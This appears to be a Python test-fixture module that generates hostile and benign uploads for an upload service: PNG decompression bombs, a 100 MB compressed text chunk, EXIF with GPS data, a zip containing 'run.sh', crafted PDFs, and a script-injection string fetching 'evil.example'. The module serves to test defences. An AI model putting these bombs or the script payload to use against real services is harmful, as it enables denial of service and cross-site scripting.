"""Pictures and files of every sort people upload, well-meaning and not."""

import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image

CANARY = b"JISHI-CANARY-7f3a"
SCRIPT = b"<script>fetch('//evil.example')</script>"


def a_picture(width: int = 700, height: int = 500, kind: str = "JPEG", **how: Any) -> bytes:
    """A gradient with an edge, so that it looks like something."""
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    image.paste((200, 40, 30), (0, 0, width // 3, height // 2))
    return encoded(image, kind, **how)


def encoded(image: Image.Image, kind: str, **how: Any) -> bytes:
    file = io.BytesIO()
    image.save(file, kind, **how)
    return file.getvalue()


def a_photo_with_a_place() -> bytes:
    """A phone's picture: taken sideways, at a place it remembers."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif[0x010F] = CANARY.decode()  # maker
    exif.get_ifd(0x8825)[2] = (31.0, 13.0, 49.0)  # latitude
    return a_picture(800, 400, exif=exif.tobytes())


def a_bomb(width: int, height: int) -> bytes:
    """A PNG of so many pixels in a few kilobytes."""
    row = b"\0" * (width // 8 + 2)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(kind, data) for kind, data in ((b"IHDR", header), (b"IDAT", body), (b"IEND", b""))
    )


def with_text_chunk(png: bytes, text: bytes, kind: bytes = b"tEXt") -> bytes:
    """A chunk of text behind the header of a PNG."""
    return png[:33] + _chunk(kind, text) + png[33:]


def a_text_bomb() -> bytes:
    """A PNG whose comment unpacks to 100 MB."""
    packed = zlib.compress(b"\0" * 100_000_000, 9)
    return with_text_chunk(a_picture(kind="PNG"), b"Comment\0\1\0\0\0" + packed, b"iTXt")


def an_animation(frames: int) -> bytes:
    images = [Image.new("RGB", (32, 32), (n % 256, n // 256, 0)) for n in range(frames)]
    return encoded(images[0], "WEBP", save_all=True, append_images=images[1:], duration=20)


def a_zip(names: tuple[str, ...] = ("run.sh",)) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for name in names:
            packed.writestr(name, CANARY)
    return file.getvalue()


def a_pdf(
    inside: bytes = b"", *, packed: bytes = b"", packing: bytes = b"/Filter/FlateDecode"
) -> bytes:
    """`packed` are objects in a compressed stream."""
    stream = b"3 0 obj<</Type/ObjStm/N 1/First 4%b>>stream\n%b\nendstream\nendobj\n"
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + inside + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        + (stream % (packing, zlib.compress(packed)) if packed else b"")
        + b"xref\n0 3\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n90\n%%EOF\n"
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
